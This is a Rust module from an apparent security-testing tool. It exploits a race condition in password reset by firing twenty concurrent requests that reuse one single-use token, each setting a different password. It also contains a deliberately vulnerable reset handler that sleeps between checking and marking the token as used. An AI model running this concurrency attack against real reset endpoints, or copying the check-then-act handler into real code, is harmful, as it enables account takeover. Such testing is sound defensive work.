//! Race conditions: a link that works once is used twenty times in the same moment, each time with another password.

use anyhow::Context;
use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;
use tokio::task::JoinSet;

use super::{Attack, Control};
use crate::Outcome;
use crate::http;
use crate::target::Target;

pub const ATTACK: Attack = Attack { name: "race", settings: &[], control: Control::Service };

const AT_ONCE: u32 = 20;

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    target.create_account("alice@example.com").await?;
    target.json("/api/v1/forgot-password", &json!({"email": "alice@example.com"})).await?;
    let mail = target.mail("alice@example.com", "password_reset").await?;
    let (_, token) = mail["link"].as_str().and_then(|link| link.split_once("token=")).context("a link")?;
    let mut uses = JoinSet::new();
    for number in 0..AT_ONCE {
        let password = format!("another horse battery staple {number}");
        let body = json!({"token": token, "new_password": password}).to_string();
        let port = target.port;
        uses.spawn(async move {
            let headers = "content-type: application/json\r\n";
            http::send(port, "POST", "/api/v1/reset-password", headers, body.as_bytes()).await
        });
    }
    let mut done = 0;
    while let Some(answer) = uses.join_next().await {
        if answer??.is_done() {
            done += 1;
        }
    }
    anyhow::ensure!(done > 0, "the link does not work at all");
    Ok(Outcome::of((done > 1).then(|| format!("a link that works once worked {done} times"))))
}

type Used = Arc<AtomicBool>;

pub async fn service() -> anyhow::Result<Target> {
    let router = Router::new()
        .route("/api/v1/reset-password", post(reset_password))
        .route("/dev/inbox.json", get(inbox))
        .with_state(Used::default());
    Target::service(router).await
}

/// Looks, works, and then notes it.
async fn reset_password(State(used): State<Used>) -> StatusCode {
    if used.load(Ordering::SeqCst) {
        return StatusCode::GONE;
    }
    tokio::time::sleep(Duration::from_millis(50)).await;
    used.store(true, Ordering::SeqCst);
    StatusCode::NO_CONTENT
}

async fn inbox() -> Json<Value> {
    Json(json!([{"kind": "password_reset", "link": "https://id.example.com/reset-password?token=x"}]))
}
